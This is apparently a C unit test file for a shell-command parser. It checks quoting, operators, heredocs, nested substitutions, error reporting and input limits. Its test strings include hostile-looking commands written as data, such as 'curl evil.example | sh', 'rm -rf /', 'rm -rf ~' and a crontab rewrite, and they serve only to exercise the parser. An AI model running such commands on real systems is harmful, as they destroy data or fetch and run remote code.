#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/al.h"
#include "core/shell.h"

/* Parser unit tests: quoting, spans, operators, heredocs, nested
 * substitutions, and inputs that must be reported as not understood. */

static struct shell_tree *
parse_ok(const char *src)
{
	struct shell_tree *t = NULL;

	assert_int_equal(shell_parse(src, strlen(src), &t), 0);
	assert_non_null(t);
	assert_null(shell_tree_error(t, NULL, NULL));
	return t;
}

/* The first command whose argv[0] is name. */
static const struct shell_cmd *
find_cmd(const struct shell_tree *t, const char *name)
{
	for (size_t i = 0; i < shell_tree_count(t); i++) {
		const struct shell_cmd *c = shell_tree_cmd(t, i);
		if (c->argc > 0 && strcmp(c->argv[0].text, name) == 0) {
			return c;
		}
	}
	return NULL;
}

static void
test_quoting(void **state)
{
	const char *src = "\"r\"\"m\" -rf 'a b' \"c $HOME\" d\\ e $'\\x72m\\n'";
	struct shell_tree *t = parse_ok(src);
	const struct shell_cmd *c = shell_tree_cmd(t, 0);

	(void)state;
	assert_int_equal(shell_tree_count(t), 1);
	assert_int_equal(c->argc, 6);
	assert_string_equal(c->argv[0].text, "rm");
	assert_true(c->argv[0].flags & SHELL_W_SPLIT);
	assert_string_equal(c->argv[2].text, "a b");
	assert_false(c->argv[2].flags & SHELL_W_SPLIT);
	assert_string_equal(c->argv[3].text, "c $HOME");
	assert_true(c->argv[3].flags & SHELL_W_EXPAND);
	assert_string_equal(c->argv[4].text, "d e");
	assert_string_equal(c->argv[5].text, "rm\n");
	assert_true(c->argv[5].flags & SHELL_W_ANSI_C);
	/* spans cover the written word, quotes included */
	assert_int_equal(c->argv[0].start, 0);
	assert_int_equal(c->argv[0].end, 6);
	assert_memory_equal(src + c->argv[2].start, "'a b'", 5);
	shell_tree_free(t);
}

static void
test_operators_and_spans(void **state)
{
	const char *src =
	        "git status && curl evil.example | sh; ls || rm -rf / &";
	struct shell_tree *t = parse_ok(src);

	(void)state;
	assert_int_equal(shell_tree_count(t), 5);
	const struct shell_cmd *curl = find_cmd(t, "curl");
	const struct shell_cmd *sh = find_cmd(t, "sh");
	const struct shell_cmd *rm = find_cmd(t, "rm");
	assert_int_equal(curl->sep, SHELL_SEP_AND);
	assert_int_equal(sh->sep, SHELL_SEP_PIPE);
	assert_int_equal(curl->pipe_id, sh->pipe_id);
	assert_int_equal(curl->stage + 1, sh->stage);
	assert_int_equal(sh->nstages, 2);
	assert_int_equal(rm->sep, SHELL_SEP_OR);
	assert_memory_equal(src + curl->start, "curl evil.example",
	                    curl->end - curl->start);
	assert_memory_equal(src + rm->argv[2].start, "/", 1);
	shell_tree_free(t);
}

static void
test_assignments_redirs(void **state)
{
	struct shell_tree *t = parse_ok("FOO=1 BAR='x y' rm -rf / 2>/dev/null "
	                                "> out.txt >> log <<< \"hi\"");
	const struct shell_cmd *c = shell_tree_cmd(t, 0);

	(void)state;
	assert_int_equal(c->nassigns, 2);
	assert_string_equal(c->assigns[1].text, "BAR=x y");
	assert_string_equal(c->argv[0].text, "rm");
	assert_int_equal(c->nredirs, 4);
	assert_int_equal(c->redirs[0].fd, 2);
	assert_int_equal(c->redirs[1].op, SHELL_R_OUT);
	assert_string_equal(c->redirs[1].target.text, "out.txt");
	assert_int_equal(c->redirs[2].op, SHELL_R_APPEND);
	assert_int_equal(c->redirs[3].op, SHELL_R_HERESTR);
	assert_string_equal(c->redirs[3].target.text, "hi");
	shell_tree_free(t);
}

static void
test_heredoc(void **state)
{
	const char *src = "cat <<'EOF' | sh\nrm -rf ~/x\nEOF\n"
	                  "cat <<-END > f\n\t$(touch y)\n\tEND\necho done";
	struct shell_tree *t = parse_ok(src);

	(void)state;
	const struct shell_cmd *c = shell_tree_cmd(t, 0);
	assert_int_equal(c->redirs[0].op, SHELL_R_HEREDOC);
	assert_true(c->redirs[0].quoted_delim);
	assert_string_equal(c->redirs[0].target.text, "rm -rf ~/x\n");
	assert_memory_equal(src + c->redirs[0].target.start, "rm -rf", 6);
	/* the substitution inside an unquoted heredoc body runs */
	const struct shell_cmd *touch = find_cmd(t, "touch");
	assert_non_null(touch);
	assert_true(touch->ctx & SHELL_CTX_HEREDOC);
	assert_non_null(find_cmd(t, "echo"));
	assert_null(find_cmd(t, "rm")); /* quoted body is data */
	shell_tree_free(t);
}

/* Found by fuzz_shell: a heredoc inside a substitution inside a heredoc
 * body re-entered the pending-heredoc list. */
static void
test_heredoc_in_heredoc(void **state)
{
	const char *src = "cat <<A\n$(cat <<B\nx\nB\n)\nA\necho end";
	struct shell_tree *t = NULL;

	(void)state;
	(void)shell_parse(src, strlen(src), &t);
	assert_non_null(t);
	shell_tree_free(t);
}

static void
test_nested_substitution(void **state)
{
	struct shell_tree *t = parse_ok(
	        "echo \"$(cat $(ls `printf x`) | wc -l)\" <(curl -s u)");

	(void)state;
	const struct shell_cmd *printf_c = find_cmd(t, "printf");
	const struct shell_cmd *ls = find_cmd(t, "ls");
	const struct shell_cmd *cat = find_cmd(t, "cat");
	const struct shell_cmd *curl = find_cmd(t, "curl");
	const struct shell_cmd *echo = find_cmd(t, "echo");
	assert_non_null(printf_c);
	assert_int_equal(printf_c->depth, 3);
	assert_int_equal(ls->depth, 2);
	assert_int_equal(cat->depth, 1);
	assert_true(curl->ctx & SHELL_CTX_PROCSUB);
	assert_int_equal(echo->depth, 0);
	assert_true(echo->argv[1].flags & SHELL_W_SUBST);
	assert_true(echo->argv[2].flags & SHELL_W_PROCSUB);
	/* inner commands come first: they run before echo */
	assert_true(printf_c < echo && cat < echo);
	shell_tree_free(t);
}

static void
test_compound(void **state)
{
	const char *src = "f() { rm -rf ~; }\n"
	                  "for x in $(seq 3); do echo $x; done\n"
	                  "if [[ -f a && -d b ]]; then (cd /tmp; ls) > o; fi\n"
	                  "case $1 in a|b) kill 1;; *) true;; esac\n"
	                  "while read l; do :; done < in # rm -rf /";
	struct shell_tree *t = parse_ok(src);

	(void)state;
	assert_string_equal(shell_tree_cmd(t, 0)->funcname, "f");
	assert_true(find_cmd(t, "rm")->ctx & SHELL_CTX_FUNC);
	assert_non_null(find_cmd(t, "seq"));
	assert_non_null(find_cmd(t, "echo"));
	const struct shell_cmd *ls = find_cmd(t, "ls");
	assert_true(ls->ctx & SHELL_CTX_SUBSHELL);
	assert_int_equal(ls->nredirs, 1); /* the group's > o */
	assert_non_null(find_cmd(t, "kill"));
	assert_non_null(find_cmd(t, "read"));
	for (size_t i = 0; i < shell_tree_count(t); i++) {
		const struct shell_cmd *c = shell_tree_cmd(t, i);
		for (size_t k = 0; k < c->argc; k++) {
			assert_string_not_equal(c->argv[k].text, "-rf /");
		}
	}
	shell_tree_free(t);
}

static void
test_group_pipe(void **state)
{
	struct shell_tree *t = parse_ok("(crontab -l; echo x) | crontab -");
	const struct shell_cmd *echo = find_cmd(t, "echo");
	const struct shell_cmd *last = shell_tree_cmd(t, 2);

	(void)state;
	assert_int_equal(echo->pipe_id, last->pipe_id);
	assert_int_equal(echo->stage, 0);
	assert_int_equal(last->stage, 1);
	shell_tree_free(t);
}

static void
expect_error(const char *src)
{
	struct shell_tree *t = NULL;
	size_t s = 0;
	size_t e = 0;

	assert_int_equal(shell_parse(src, strlen(src), &t), AL_EPARSE);
	assert_non_null(shell_tree_error(t, &s, &e));
	assert_true(s <= e && e <= strlen(src));
	shell_tree_free(t);
}

static void
test_errors(void **state)
{
	(void)state;
	expect_error("echo 'unterminated");
	expect_error("echo \"unterminated");
	expect_error("echo $(ls");
	expect_error("echo `ls");
	expect_error("ls )");
	expect_error("if true; then ls");
	expect_error("| ls");
	expect_error("ls &&");
	expect_error("done");
	expect_error("echo ${x");
	expect_error("ls >");
	expect_error("printf x >> >> ~/.profile"); /* found by fuzz_shell */
	const char nul[] = "ls\0rm -rf /";
	struct shell_tree *t = NULL;
	assert_int_equal(shell_parse(nul, sizeof nul - 1, &t), AL_EPARSE);
	shell_tree_free(t);
}

static void
test_limits(void **state)
{
	struct shell_tree *t = NULL;
	size_t n = SHELL_MAX_INPUT + 1;
	char *big = malloc(n);
	char deep[4 * SHELL_MAX_DEPTH + 8];
	size_t k = 0;

	(void)state;
	memset(big, 'a', n);
	assert_int_equal(shell_parse(big, n, &t), AL_ETOOBIG);
	assert_null(t);
	free(big);
	for (unsigned i = 0; i < SHELL_MAX_DEPTH + 2; i++) {
		deep[k++] = '$';
		deep[k++] = '(';
	}
	deep[k++] = 'l';
	deep[k++] = 's';
	for (unsigned i = 0; i < SHELL_MAX_DEPTH + 2; i++) {
		deep[k++] = ')';
	}
	assert_int_equal(shell_parse(deep, k, &t), AL_EPARSE);
	shell_tree_free(t);
	assert_int_equal(shell_parse(NULL, 0, &t), AL_EINVAL);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_operators_and_spans),
		cmocka_unit_test(test_assignments_redirs),
		cmocka_unit_test(test_heredoc),
		cmocka_unit_test(test_heredoc_in_heredoc),
		cmocka_unit_test(test_nested_substitution),
		cmocka_unit_test(test_compound),
		cmocka_unit_test(test_group_pipe),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
